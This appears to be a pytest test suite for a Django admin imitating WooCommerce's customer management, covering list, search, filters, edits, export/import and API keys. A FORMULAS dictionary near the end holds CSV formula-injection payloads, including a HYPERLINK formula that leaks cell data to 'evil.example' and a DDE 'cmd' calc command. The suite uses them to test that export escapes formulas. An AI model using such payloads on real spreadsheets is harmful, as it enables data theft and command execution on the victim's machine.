"""The admin as an operator uses it: the list, the customer page, writes through the services, export/import."""

import csv
import io
import json
import re
import tracemalloc
from datetime import UTC, datetime
from decimal import Decimal
from types import SimpleNamespace
from zoneinfo import ZoneInfo

import pytest
from django import forms
from django.urls import reverse
from django.utils import timezone
from import_export.formats.base_formats import JSON

from customers.admin import KnownTotalPaginator, PlainEmailInput, PlainTextInput
from customers.models import Address, Customer, Order
from customers.resources import AddressField, CustomerResource, SpreadsheetSafeCSV, _renderer
from customers.states import all_states, states_of
from tests.factories import CustomerFactory, OrderFactory, UserFactory
from wcompat.models import ApiKey
from webhooks.models import Delivery, Webhook

pytestmark = pytest.mark.django_db
LIST = reverse("admin:customers_customer_changelist")


def change_url(customer) -> str:
    return reverse("admin:customers_customer_change", args=[customer.pk])


def form_data(admin_client, url: str, **changes) -> dict:
    """What the page's form would post unchanged, with `changes`, and empty inlines."""
    response = admin_client.get(url)
    form = response.context["adminform"].form
    data = {name: value for name, value in form.initial.items() if value is not None and name != "password"}
    data.pop("date_created", None)
    data.pop("date_modified", None)
    for formset in response.context["inline_admin_formsets"]:
        prefix = formset.formset.prefix
        forms = formset.formset.initial_forms
        data.update({f"{prefix}-TOTAL_FORMS": len(forms), f"{prefix}-INITIAL_FORMS": len(forms)})
        for index, inline_form in enumerate(forms):
            for name, value in inline_form.initial.items():
                data[f"{prefix}-{index}-{name}"] = value if value is not None else ""
            data[f"{prefix}-{index}-id"] = inline_form.instance.pk
            data[f"{prefix}-{index}-customer"] = inline_form.instance.customer_id
    data.update(changes)
    return data


@pytest.mark.parametrize(
    "name",
    ["customers_customer", "customers_order", "customers_download", "wcompat_apikey", "webhooks_webhook"],
)
def test_admin_changelist_and_add_pages_load(admin_client, name):
    assert admin_client.get(reverse(f"admin:{name}_changelist")).status_code == 200
    assert admin_client.get(reverse(f"admin:{name}_add")).status_code == 200


def cells(html: str, field: str) -> list[str]:
    """The text of the list's cells of one column, in order."""
    return [
        re.sub(r"<[^>]+>", "", cell) for cell in re.findall(rf'<t[dh] class="field-{field}"[^>]*>(.*?)</t[dh]>', html)
    ]


def set_address(customer, kind: str, **values) -> None:
    address = Address.objects.get(customer=customer, type=kind)
    for name, value in values.items():
        setattr(address, name, value)
    address.save()  # its phone digits too


def listed(admin_client, **params) -> list[int]:
    return [customer.pk for customer in admin_client.get(LIST, params).context["cl"].result_list]


def test_the_list_shows_woocommerces_customers_screen_columns(admin_client, customer):
    set_address(customer, "billing", country="DE", city="Berlin", state="BE", postcode="10115")
    OrderFactory(customer=customer, total="42.00", status="completed")
    OrderFactory(customer=customer, total="1000.50", status="processing")
    last = OrderFactory(customer=customer, total="7.00", status="pending")
    Order.objects.filter(pk=last.pk).update(date_created=datetime(2025, 3, 4, 12, tzinfo=UTC))
    html = admin_client.get(LIST).content.decode()
    titles = (
        "Name",
        "Username",
        "Email",
        "Last active",
        "Date registered",
        "Orders",
        "Total spend",
        "AOV",
        "Last order",
        "Country",
        "City",
        "Region",
        "Postal code",
    )
    for title in titles:
        assert f">{title}<" in html or f">{title}</a>" in html, title
    assert cells(html, "orders_count") == ["3"]  # every status
    assert cells(html, "total_spent") == ["$1,042.50"]  # processing and completed
    assert cells(html, "average_order_value") == ["$521.25"]  # per paid order
    assert cells(html, "last_order") == ["2025-03-04"]  # the highest id, not the newest date
    assert cells(html, "created") == [f"{customer.date_created:%Y-%m-%d}"]
    assert [cells(html, name)[0] for name in ("billing_country", "billing_city", "billing_state")] == [
        "DE",
        "Berlin",
        "BE",
    ]
    assert cells(html, "billing_postcode") == ["10115"]
    # The orders marked the customer active today (wc_last_active: today's UTC midnight).
    assert cells(html, "last_active") == [f"{timezone.now():%Y-%m-%d}"]
    assert 'title="Every order of the customer, whatever its status' in html
    assert "paid orders: processing and completed (the API&#x27;s total_spent)" in html


def test_search_by_email_username_name_city_postcode_phone_and_exact_id(admin_client):
    alice = CustomerFactory(username="alice", email="alice@shop.example", first_name="Alice", last_name="Liddell")
    bob = CustomerFactory(username="bob", email="bob@shop.example")
    set_address(alice, "billing", city="Oxford", postcode="OX1 1DP", phone="+44 1865 270000")
    set_address(bob, "shipping", city="London", postcode="SW1A 1AA")

    def found(term: str) -> set[int]:
        return set(listed(admin_client, q=term))

    assert found("alice@shop") == {alice.pk}
    assert found("ALICE@shop.example") == {alice.pk}  # a whole address, from the unique index
    assert found("lice@shop.example") == {alice.pk}  # part of one, as a substring
    assert found("nobody@shop.example") == set()
    assert found("Liddell") == {alice.pk}
    assert found("bob") == {bob.pk}
    assert found("oxford") == {alice.pk}
    assert found("sw1a 1aa") == {bob.pk}
    assert found("441865270000") == found("+44 (1865) 270-000") == {alice.pk}
    assert found("Lon") == set()  # a city is matched whole
    assert found(str(bob.pk)) >= {bob.pk}


def test_filters_by_role_paying_country_and_ranges(admin_client):
    payer = CustomerFactory(is_paying_customer=True, first_name="Payer")
    subscriber = CustomerFactory(role="subscriber")
    set_address(payer, "billing", country="FR")
    set_address(subscriber, "billing", country="DE")
    OrderFactory(customer=payer, total="30.00", status="completed")
    OrderFactory(customer=payer, total="5.00", status="completed")
    Customer.objects.filter(pk=subscriber.pk).update(date_created=datetime(2024, 6, 1, 23, 30, tzinfo=UTC))

    assert listed(admin_client, is_paying_customer__exact="1") == [payer.pk]
    assert listed(admin_client, role="subscriber") == [subscriber.pk]
    assert listed(admin_client, country="DE") == [subscriber.pk]
    assert listed(admin_client, stats__orders_count__gte="2") == [payer.pk]
    assert listed(admin_client, stats__total_spent__gte="10", stats__total_spent__lte="35") == [payer.pk]
    assert listed(admin_client, stats__total_spent__lte="34.99") == [subscriber.pk]
    assert listed(admin_client, date_created__gte="2024-06-01", date_created__lte="2024-06-01") == [subscriber.pk]
    assert listed(admin_client, date_created__gte="2024-06-02") == [payer.pk]
    today = f"{timezone.now():%Y-%m-%d}"
    assert listed(admin_client, stats__last_active__gte=today, stats__last_active__lte=today) == [payer.pk]
    # What is not a number or a day is ignored, not an error page.
    assert set(listed(admin_client, stats__orders_count__gte="lots", date_created__lte="June")) == {
        payer.pk,
        subscriber.pk,
    }

    html = admin_client.get(LIST).content.decode()
    assert "Subscriber (1)" in html
    assert "Customer (1)" in html
    assert "Administrator (" not in html  # only roles some customer has
    assert "France (FR)" in html
    assert "Germany (DE)" in html
    assert "date_created__year" not in html  # the year/month bar is gone


def test_the_list_total_is_the_kept_count_unless_searched_or_filtered(admin_client, django_assert_num_queries):
    CustomerFactory.create_batch(3)
    CustomerFactory(role="subscriber")
    assert admin_client.get(LIST).context["cl"].result_count == 4
    assert admin_client.get(LIST, {"role": "subscriber"}).context["cl"].result_count == 1
    assert admin_client.get(LIST, {"role": "nobody"}).context["cl"].result_count == 0
    assert admin_client.get(LIST, {"q": "nobody-at-all"}).context["cl"].result_count == 0


@pytest.mark.parametrize("count", [5, 40])
@pytest.mark.parametrize(
    "ordering", ["", "6", "-7", "4", "-9"]
)  # default, orders, total spend, last active, last order
def test_the_list_runs_the_same_queries_whatever_its_length(
    admin_client, django_assert_max_num_queries, count, ordering
):
    for customer in CustomerFactory.create_batch(count):
        OrderFactory(customer=customer, total="4.50", status="completed")
    with django_assert_max_num_queries(10):
        response = admin_client.get(LIST, {"o": ordering} if ordering else {})
    assert response.status_code == 200
    assert cells(response.content.decode(), "total_spent") == ["$4.50"] * count


def test_the_customer_page(admin_client, customer):
    order = OrderFactory(customer=customer, total="12.00", status="completed")
    html = admin_client.get(change_url(customer)).content.decode()
    assert '<input type="text" name="first_name"' in html  # single-line names
    assert 'name="billing_city"' in html
    assert 'name="shipping_city"' in html
    assert 'class="module aligned address-column"' in html
    assert reverse("admin:customers_order_change", args=[order.pk]) in html
    assert "1 orders (every status); total spend $12.00 (processing and completed orders)" in html
    json_url = reverse("admin:customers_customer_json", args=[customer.pk])
    assert json_url in html
    body = admin_client.get(json_url).json()
    assert (body["id"], body["email"], body["is_paying_customer"]) == (customer.pk, customer.email, True)


def test_an_edit_goes_through_the_services(admin_client, customer, api):
    Webhook.objects.create(topic="customer.updated", delivery_url="https://hooks.example/in", status="active")
    before = Customer.objects.get(pk=customer.pk).date_modified
    data = form_data(
        admin_client, change_url(customer), first_name="Edited", billing_city="Oslo", billing_phone="+47 1"
    )
    response = admin_client.post(change_url(customer), data)
    assert response.status_code == 302, response.context["adminform"].form.errors
    stored = Customer.objects.get(pk=customer.pk)
    assert stored.first_name == "Edited"
    assert stored.date_modified != before
    billing = api.get(f"/wp-json/wc/v3/customers/{customer.pk}").json()["billing"]
    assert (billing["city"], billing["phone"], billing["address_1"]) == ("Oslo", "+47 1", "123 South Street")
    assert Delivery.objects.filter(topic="customer.updated", resource_id=customer.pk).exists()


@pytest.mark.parametrize(
    ("changes", "field", "message"),
    [
        ({"email": "not-an-email"}, "email", "Invalid email address"),
        ({"email": "taken@example.com"}, "email", "This email is already registered to"),
        ({"billing_email": "nope"}, "billing_email", "Invalid billing email address"),
    ],
)
def test_an_invalid_edit_is_a_form_error(admin_client, customer, changes, field, message):
    CustomerFactory(email="taken@example.com")
    response = admin_client.post(change_url(customer), form_data(admin_client, change_url(customer), **changes))
    assert response.status_code == 200
    assert any(message in str(error) for error in response.context["adminform"].form.errors[field])
    assert Customer.objects.get(pk=customer.pk).email == "test@woo.local"


def test_the_role_rules_hold_in_the_admin(admin_client):
    manager = CustomerFactory(role="shop_manager", email="manager@example.com")
    response = admin_client.post(
        change_url(manager), form_data(admin_client, change_url(manager), email="m2@example.com")
    )
    assert "cannot be changed here" in str(response.context["adminform"].form.errors["email"])
    delete = reverse("admin:customers_customer_delete", args=[manager.pk])
    assert admin_client.post(delete, {"post": "yes"}).status_code == 403
    assert Customer.objects.filter(pk=manager.pk).exists()


def test_adding_a_customer_uses_the_services(admin_client):
    response = admin_client.get(reverse("admin:customers_customer_add"))
    data = dict.fromkeys(response.context["adminform"].form.fields, "")
    data.update(
        {
            "username": "new.one",
            "email": "new.one@example.com",
            "first_name": "New",
            "role": "subscriber",
            "password": "s3cret-enough",
            "shipping_city": "Lima",
            "meta-TOTAL_FORMS": 0,
            "meta-INITIAL_FORMS": 0,
            "downloads-TOTAL_FORMS": 0,
            "downloads-INITIAL_FORMS": 0,
        }
    )
    response = admin_client.post(reverse("admin:customers_customer_add"), data)
    assert response.status_code == 302, response.context["adminform"].form.errors
    created = Customer.objects.get(username="new.one")
    assert (created.role, created.display_name, created.date_modified is not None) == ("subscriber", "new.one", True)
    assert created.password.startswith("md5$")  # hashed (the tests' fast hasher)
    assert created.addresses.get(type="shipping").city == "Lima"
    duplicate = admin_client.post(reverse("admin:customers_customer_add"), {**data, "username": "other"})
    assert "already registered" in str(duplicate.context["adminform"].form.errors["email"])


def test_orders_saved_in_the_admin_move_the_figures(admin_client, customer):
    Customer.objects.filter(pk=customer.pk).update(date_modified=None)
    data = {"customer": customer.pk, "status": "completed", "total": "9.99", "date_created_0": "2026-01-02",
            "date_created_1": "10:00:00", "order_key": "wc_order_admin1"}  # fmt: skip
    assert admin_client.post(reverse("admin:customers_order_add"), data).status_code == 302
    stored = Customer.objects.get(pk=customer.pk)
    assert stored.is_paying_customer is True
    assert stored.date_modified is not None
    assert Order.objects.get().order_key == "wc_order_admin1"


#
# Export and previewed import
#


def test_export_to_csv_and_json(admin_client, customer):
    OrderFactory(customer=customer, total="3.00", status="completed")
    response = admin_client.post(reverse("admin:customers_customer_export"), {"format": "0", **_all_export_fields()})
    rows = list(csv.DictReader(io.StringIO(body(response).decode())))
    assert rows[0]["email"] == "test@woo.local"
    assert rows[0]["billing_city"] == "San Francisco"
    assert rows[0]["total_spent"] == "3.00"
    # Selected customers: the action asks for the format and columns, then exports those customers only.
    CustomerFactory()
    chosen = admin_client.post(LIST, {"action": "export_admin_action", "_selected_action": [customer.pk]})
    items = chosen.context["form"].initial["export_items"]
    response = admin_client.post(
        reverse("admin:customers_customer_export"), {"format": "1", "export_items": items, **_all_export_fields()}
    )
    exported = json.loads(body(response))
    assert [(row["id"], row["shipping_address_1"]) for row in exported] == [(str(customer.pk), "123 South Street")]


def body(response) -> bytes:
    """A streamed export's file."""
    return b"".join(response.streaming_content)


@pytest.mark.parametrize(("format_index", "file_format"), [("0", SpreadsheetSafeCSV), ("1", JSON)])
def test_a_streamed_export_is_the_librarys_file_byte_for_byte(admin_client, format_index, file_format):
    for number in range(5):
        customer = CustomerFactory(first_name=f"=cmd{number}", last_name='Ünïcode "quoted", comma')
        OrderFactory(customer=customer, total="2.50", status="completed")
    response = admin_client.post(
        reverse("admin:customers_customer_export"), {"format": format_index, **_all_export_fields()}
    )
    assert response.streaming
    expected = file_format().export_data(CustomerResource().export(Customer.objects.order_by("id")))
    assert body(response) == expected.encode()


@pytest.mark.parametrize("thousands", [False, True])
def test_the_exports_renderers_render_as_the_librarys_widgets(settings, thousands):
    """The export renders values without the library's per-value lookups: the same strings, whatever the
    site's time zone and number format."""
    settings.TIME_ZONE, settings.USE_THOUSAND_SEPARATOR = "Asia/Kolkata", thousands
    values = [
        None,
        "",
        "Ünïcode",
        0,
        1234567,
        Decimal("1234.50"),
        datetime(2026, 3, 1, 23, 59, 59, 999999, tzinfo=UTC),
        datetime(2026, 3, 1, 12, tzinfo=ZoneInfo("America/New_York")),
    ]
    for field in CustomerResource().get_export_fields():
        if isinstance(field, AddressField):
            continue
        render = _renderer(field)
        for value in values:
            try:
                expected = field.export(SimpleNamespace(**{field.attribute: value}))
            except ValueError:  # a value of a type the field never holds (text as total_spent)
                with pytest.raises(ValueError, match="Unknown format code"):
                    render(value)
                continue
            assert render(value) == expected, (field.column_name, value)


def test_the_export_page_says_how_many_and_which_filter_and_offers_a_byte_order_mark(admin_client):
    CustomerFactory.create_batch(3)
    subscriber = CustomerFactory(role="subscriber")
    url = reverse("admin:customers_customer_export")
    html = " ".join(admin_client.get(url).content.decode().split())
    assert "4 customers will be exported, every customer (no search or filter applies)." in html
    assert '<option value="0" selected>csv</option>' in html
    assert 'name="byte_order_mark"' in html
    html = " ".join(admin_client.get(url, {"role": "subscriber"}).content.decode().split())
    assert "1 customer will be exported, chosen by <code>role=subscriber</code>." in html
    response = admin_client.post(
        f"{url}?role=subscriber", {"format": "0", "byte_order_mark": "on", **_all_export_fields()}
    )
    exported = body(response)
    assert exported.startswith(b"\xef\xbb\xbfid,")
    assert [row["id"] for row in csv.DictReader(io.StringIO(exported.decode("utf-8-sig")))] == [str(subscriber.pk)]


@pytest.mark.slow
def test_an_export_streams_in_flat_memory_however_many_customers(admin_client):
    """The peak of Python's allocations while writing 8,000 customers is about that of 2,000 (one batch)."""

    def peak_while_exporting() -> tuple[int, int]:
        tracemalloc.start()
        response = admin_client.post(
            reverse("admin:customers_customer_export"), {"format": "0", **_all_export_fields()}
        )
        lines = sum(chunk.count(b"\n") for chunk in response.streaming_content)
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        return lines, peak

    def add_customers(count: int) -> None:
        start = Customer.objects.count()
        customers = [Customer(username=f"bulk{start + n}", email=f"bulk{start + n}@example.com") for n in range(count)]
        Customer.objects.bulk_create(customers, batch_size=1000)

    add_customers(2000)
    lines_small, peak_small = peak_while_exporting()
    add_customers(6000)
    lines_large, peak_large = peak_while_exporting()
    assert (lines_small, lines_large) == (2001, 8001)
    assert peak_large < peak_small * 1.5, (peak_small, peak_large)


def _all_export_fields() -> dict[str, str]:
    return {f"customerresource_{name}": "on" for name in CustomerResource().fields}


def preview_import(admin_client, *rows: list):
    """The import's preview of a CSV of these rows (id, email, username, first_name, billing_city)."""
    file = io.StringIO()
    writer = csv.writer(file)
    writer.writerow(["id", "email", "username", "first_name", "billing_city"])
    writer.writerows(rows)
    upload = io.BytesIO(file.getvalue().encode())
    upload.name = "customers.csv"
    return admin_client.post(
        reverse("admin:customers_customer_import"), {"import_file": upload, "format": "0", "resource": "0"}
    )


def test_a_csv_import_is_previewed_then_written_through_the_services(admin_client, customer):
    owner = CustomerFactory(email="taken@example.com")
    good = [
        [customer.pk, customer.email, customer.username, "Imported", "Quito"],
        ["", "fresh@example.com", "fresh", "Fresh", "Accra"],
    ]
    preview = preview_import(admin_client, *good, ["", "taken@example.com", "dup", "Dup", ""])
    assert preview.status_code == 200
    result = preview.context["result"]
    assert result.has_validation_errors()
    assert f"This email is already registered to customer #{owner.pk}." in preview.content.decode()
    assert Customer.objects.get(pk=customer.pk).first_name == "Justin"  # nothing written by the preview

    preview = preview_import(admin_client, *good)
    confirm = preview.context["confirm_form"]
    response = admin_client.post(reverse("admin:customers_customer_process_import"), confirm.initial)
    assert response.status_code == 302
    assert Customer.objects.get(pk=customer.pk).first_name == "Imported"
    assert Customer.objects.get(pk=customer.pk).addresses.get(type="billing").city == "Quito"
    fresh = Customer.objects.get(email="fresh@example.com")
    assert fresh.addresses.get(type="billing").city == "Accra"


def test_adding_an_api_key_shows_the_credentials_once_in_copyable_read_only_fields(admin_client):
    owner = UserFactory()
    response = admin_client.post(
        reverse("admin:wcompat_apikey_add"), {"user": owner.pk, "description": "shop app", "permissions": "read"}
    )
    assert response.status_code == 200
    assert "no-store" in response["Cache-Control"]  # the admin's: the secret stays out of every cache
    key = ApiKey.objects.get(description="shop app")
    html = response.content.decode()
    consumer_key = re.search(r'id="consumer_key" type="text" value="(ck_[0-9a-f]{40})" size="50" readonly', html)[1]
    assert f'id="consumer_secret" type="text" value="{key.consumer_secret}" size="50" readonly' in html
    assert consumer_key.endswith(key.truncated_key)
    assert 'data-copy="consumer_key"' in html
    assert key.consumer_key not in html  # the hash is never shown
    assert f"The API key “shop app (…{key.truncated_key})” was added." in html
    # Once: the key's own page never shows them.
    again = admin_client.get(reverse("admin:wcompat_apikey_change", args=[key.pk])).content.decode()
    assert consumer_key not in again
    assert key.consumer_secret not in again


FORMULAS = {
    "first_name": '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "last_name": "+1+cmd|' /C calc'!A0",
    "billing_city": "-2+3",
    "billing_company": "@SUM(1,2)",
    "billing_phone": "+1 555 0100",
}


def test_a_csv_export_writes_no_formula_and_imports_back_unchanged(admin_client, api):
    values = {
        "email": "formula@example.com",
        "first_name": FORMULAS["first_name"],
        "last_name": FORMULAS["last_name"],
        "billing": {"city": "-2+3", "company": "@SUM(1,2)", "phone": "+1 555 0100"},
    }
    created = api.post("/wp-json/wc/v3/customers", values, format="json")
    assert created.status_code == 201, created.content
    response = admin_client.post(reverse("admin:customers_customer_export"), {"format": "0", **_all_export_fields()})
    exported = body(response).decode()
    [row] = csv.DictReader(io.StringIO(exported))
    for column, value in FORMULAS.items():
        assert row[column] == f"'{value}", column
    # Every cell of the file: none starts a formula.
    for cells in csv.reader(io.StringIO(exported)):
        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]

    upload = io.BytesIO(exported.encode())
    upload.name = "customers.csv"
    preview = admin_client.post(
        reverse("admin:customers_customer_import"), {"import_file": upload, "format": "0", "resource": "0"}
    )
    assert not preview.context["result"].has_validation_errors()
    confirm = preview.context["confirm_form"]
    assert admin_client.post(reverse("admin:customers_customer_process_import"), confirm.initial).status_code == 302
    stored = api.get(f"/wp-json/wc/v3/customers/{created.json()['id']}").json()
    assert (stored["first_name"], stored["last_name"]) == (FORMULAS["first_name"], FORMULAS["last_name"])
    assert stored["billing"]["city"] == "-2+3"
    assert stored["billing"]["phone"] == "+1 555 0100"


def test_the_customer_page_shows_the_latest_orders_and_links_all_of_them(admin_client, customer):
    orders = [OrderFactory(customer=customer, total="1.00", status="completed") for _ in range(25)]
    html = admin_client.get(change_url(customer)).content.decode()
    shown = [order.pk for order in orders if f">#{order.pk}</a>" in html]
    assert shown == [order.pk for order in orders[-20:]]  # the 20 latest
    listing = reverse("admin:customers_order_changelist") + f"?customer__id__exact={customer.pk}"
    assert f'<a href="{listing}">All 25 orders of this customer</a> (the latest 20 above)' in html
    orders_page = admin_client.get(listing)
    assert orders_page.status_code == 200
    assert orders_page.context["cl"].result_count == 25
    assert change_url(customer) in orders_page.content.decode()  # and back to the customer


def test_last_order_is_the_same_order_on_the_list_and_the_page(admin_client, customer):
    newest = OrderFactory(customer=customer, total="1.00", status="completed")
    OrderFactory(customer=customer, total="2.00", status="completed")
    Order.objects.filter(pk=newest.pk).update(date_created=datetime(2030, 1, 1, tzinfo=UTC))  # dated later
    html = admin_client.get(LIST).content.decode()
    last = Order.objects.filter(customer=customer).order_by("-id").first()
    assert cells(html, "last_order") == [f"{last.date_created:%Y-%m-%d}"]
    assert (
        f"last order: #{last.pk} on {last.date_created:%Y-%m-%d}"
        in admin_client.get(change_url(customer)).content.decode()
    )


@pytest.mark.parametrize("adding", [False, True])
def test_a_taken_email_names_the_customer_it_belongs_to(admin_client, customer, adding):
    other = CustomerFactory(email="taken@example.com")
    url = reverse("admin:customers_customer_add") if adding else change_url(customer)
    data = form_data(admin_client, url, email="TAKEN@example.com", username="newcomer" if adding else customer.username)
    response = admin_client.post(url, data)
    assert response.status_code == 200
    link = reverse("admin:customers_customer_change", args=[other.pk])
    assert f'already registered to <a href="{link}">customer #{other.pk}</a>' in response.content.decode()


def test_the_customer_page_has_only_the_apis_fields_countries_from_a_list_and_save_buttons_on_top(
    admin_client, customer
):
    set_address(customer, "billing", country="XK")  # Kosovo: a code WooCommerce has and ISO 3166 does not
    html = admin_client.get(change_url(customer)).content.decode()
    assert 'name="billing_email"' in html
    assert 'name="shipping_email"' not in html  # the API's shipping address has no email
    assert '<select name="shipping_country"' in html
    assert '<option value="DE">Germany</option>' in html
    assert '<option value="XK" selected>XK</option>' in html  # kept, so a save does not lose it
    assert html.count('name="_save"') == 2  # above and below the form
    assert "Leave empty to keep the current password." in html
    assert "current password" not in admin_client.get(reverse("admin:customers_customer_add")).content.decode()


def test_a_customer_added_without_a_username_gets_one_made_from_the_email(admin_client):
    data = {"email": "jane.doe@shop.example", "username": "", "role": "customer", "first_name": "", "last_name": ""}
    data |= {"display_name": "", "password": "", "billing_country": "NO", "shipping_country": ""}
    for prefix in ("downloads", "meta"):
        data |= {f"{prefix}-TOTAL_FORMS": 0, f"{prefix}-INITIAL_FORMS": 0}
    response = admin_client.post(reverse("admin:customers_customer_add"), data)
    assert response.status_code == 302, response.context["adminform"].form.errors
    added = Customer.objects.get(email="jane.doe@shop.example")
    assert added.username == "jane.doe"
    assert Address.objects.get(customer=added, type="billing").country == "NO"


@pytest.mark.parametrize(("sort", "tie"), [("6", "pk"), ("-6", "-id"), ("3", "pk"), ("", "-id")])
def test_equal_sort_keys_fall_back_to_the_id_in_the_sorts_direction(admin_client, sort, tie):
    """So that each sort is read from its index in one direction (orders, then id), not sorted again."""
    for customer in CustomerFactory.create_batch(3):
        OrderFactory(customer=customer, total="1.00", status="completed")
    changelist = admin_client.get(LIST, {"o": sort} if sort else {}).context["cl"]
    assert changelist.queryset.query.order_by[-1] == tie
    ids = [customer.pk for customer in changelist.result_list]
    assert ids == sorted(ids, reverse=tie == "-id")


def test_the_import_page_offers_only_the_columns_it_reads_and_a_template_csv(admin_client):
    html = admin_client.get(reverse("admin:customers_customer_import")).content.decode()
    offered = re.search(r"This importer will import the following fields:\s*<code>([^<]*)</code>", html)[1]
    assert offered.split(", ")[:6] == ["id", "email", "username", "first_name", "last_name", "role"]
    for ignored in ("orders_count", "total_spent", "date_created", "shipping_email"):
        assert ignored not in offered.split(", ")
    template_url = reverse("admin:customers_customer_import_template")
    assert template_url in html
    template = admin_client.get(template_url)
    assert template["Content-Type"] == "text/csv; charset=utf-8"
    assert template.content.decode().strip().split(",") == offered.split(", ")
    assert 'href="/static/customers/admin.css"' in html  # the refused rows' reasons shown inline


def test_an_import_with_refused_rows_can_write_the_others_and_hand_the_refused_ones_back(admin_client, customer):
    owner = CustomerFactory(email="taken@example.com")
    preview = preview_import(
        admin_client,
        [customer.pk, customer.email, customer.username, "Imported", "Quito"],
        ["", "taken@example.com", "dup", "Dup", ""],
        ["", "fresh@example.com", "fresh", "Fresh", "Accra"],
        ["", "not-an-email", "bad", "Bad", ""],
    )
    html = " ".join(preview.content.decode().split())
    assert "2 rows can be imported, 2 are refused." in html
    partial = preview.context["partial_form"]
    assert Customer.objects.get(pk=customer.pk).first_name == "Justin"  # nothing written yet

    answer = admin_client.post(reverse("admin:customers_customer_import_valid_rows"), partial.initial)
    assert answer["Content-Disposition"] == 'attachment; filename="customers-refused.csv"'
    refused = list(csv.DictReader(io.StringIO(answer.content.decode())))
    assert [(row["email"], row["first_name"]) for row in refused] == [
        ("taken@example.com", "Dup"),
        ("not-an-email", "Bad"),
    ]
    assert refused[0]["errors"] == f"email: This email is already registered to customer #{owner.pk}."
    assert refused[1]["errors"].startswith("email: ")
    assert Customer.objects.get(pk=customer.pk).first_name == "Imported"
    assert Customer.objects.get(email="fresh@example.com").addresses.get(type="billing").city == "Accra"
    assert not Customer.objects.filter(username__in=["dup", "bad"]).exists()
    # The file is gone once used: the same form again is refused, not imported twice.
    again = admin_client.post(reverse("admin:customers_customer_import_valid_rows"), partial.initial)
    assert again.status_code == 302


def test_a_filtered_list_counts_no_further_than_its_cap(admin_client, monkeypatch):
    monkeypatch.setattr(KnownTotalPaginator, "COUNT_CAP", 3)
    CustomerFactory.create_batch(5, is_paying_customer=True)
    CustomerFactory(is_paying_customer=False)
    response = admin_client.get(LIST, {"is_paying_customer__exact": "1"})
    html = " ".join(response.content.decode().split())
    assert response.context["cl"].result_count == 3
    assert "more than 3 customers" in html
    assert "more than 3 results" in html
    unfiltered = " ".join(admin_client.get(LIST).content.decode().split())
    assert "6 customers" in unfiltered  # the kept total, exact
    few = " ".join(admin_client.get(LIST, {"is_paying_customer__exact": "0"}).content.decode().split())
    assert "1 customer" in few


def test_a_csv_import_keeps_the_role_rules_of_every_writer(admin_client):
    """The role rules are the services' checks: an import may not change a shop manager's email either."""
    manager = CustomerFactory(role="shop_manager", email="manager@example.com")
    preview = preview_import(admin_client, [manager.pk, "m2@example.com", manager.username, "Imported", ""])
    assert preview.context["result"].has_validation_errors()
    html = " ".join(preview.content.decode().split())
    assert "Sorry, email cannot be updated via this endpoint for a user with role shop_manager." in html
    assert Customer.objects.get(pk=manager.pk).email == "manager@example.com"


def test_a_state_is_chosen_from_the_countrys_list_where_woocommerce_has_one(admin_client, customer):
    Address.objects.filter(customer=customer, type="billing").update(country="US", state="CA")
    Address.objects.filter(customer=customer, type="shipping").update(country="GB", state="Kent")
    html = admin_client.get(change_url(customer)).content.decode()
    billing = re.search(r'<select name="billing_state"[^>]*>(.*?)</select>', html, re.S)
    assert billing is not None
    assert 'data-states-for="id_billing_country"' in billing[0]
    assert '<option value="CA" selected>California</option>' in billing[1]
    assert '<option value="AA">Armed Forces (AA)</option>' in billing[1]  # WooCommerce's list, its codes
    assert re.search(r'<input type="text" name="shipping_state" value="Kent"', html)  # no list: typed
    assert "customers/states.js" in html

    data = form_data(admin_client, change_url(customer), billing_state="NY", shipping_country="AU")
    data["shipping_state"] = "VIC"
    assert admin_client.post(change_url(customer), data).status_code == 302
    stored = {address.type: (address.country, address.state) for address in customer.addresses.all()}
    assert stored == {"billing": ("US", "NY"), "shipping": ("AU", "VIC")}
    # The posted country decides the list a refused form is shown again with.
    data |= {"email": "not-an-email", "billing_country": "DE", "billing_state": "Berlin"}
    again = admin_client.post(change_url(customer), data).content.decode()
    assert re.search(r'<input type="text" name="billing_state" value="Berlin"', again)


def test_a_stored_state_the_list_lacks_stays_offered_so_a_save_keeps_it(admin_client, customer):
    Address.objects.filter(customer=customer, type="billing").update(country="US", state="Calif.")
    html = admin_client.get(change_url(customer)).content.decode()
    assert '<option value="Calif." selected>Calif.</option>' in html
    assert admin_client.post(change_url(customer), form_data(admin_client, change_url(customer))).status_code == 302
    assert customer.addresses.get(type="billing").state == "Calif."


def test_woocommerces_states_by_country():
    assert states_of("US")[4] == ("CA", "California")
    assert (len(states_of("US")), len(all_states())) == (54, 91)
    assert states_of("JP")[12] == ("JP13", "Tokyo")
    assert states_of("DE") == states_of("GB") == states_of(None) == []  # none, or not listed: typed


def test_a_range_filter_with_a_bound_of_zero_is_shown_open_and_clearable(admin_client):
    CustomerFactory()
    html = admin_client.get(LIST, {"stats__orders_count__lte": "0"}).content.decode()
    assert '<details data-filter-title="orders" open>' in html
    assert html.count(">Clear</a>") == 1


@pytest.mark.parametrize(
    ("plain", "django_widget"), [(PlainTextInput, forms.TextInput), (PlainEmailInput, forms.EmailInput)]
)
@pytest.mark.parametrize(
    ("value", "attrs"),
    [
        (None, {}),
        ("", {"id": "id_a"}),
        ('x"<y>&', {"id": "id_b", "required": True, "maxlength": 10, "disabled": False}),
        (5, {"placeholder": "Ünïcode"}),
    ],
)
def test_the_plain_text_inputs_write_djangos_html(plain, django_widget, value, attrs):
    expected = django_widget(attrs={"class": "vTextField"}).render("field", value, attrs)
    assert plain(attrs={"class": "vTextField"}).render("field", value, attrs) == expected
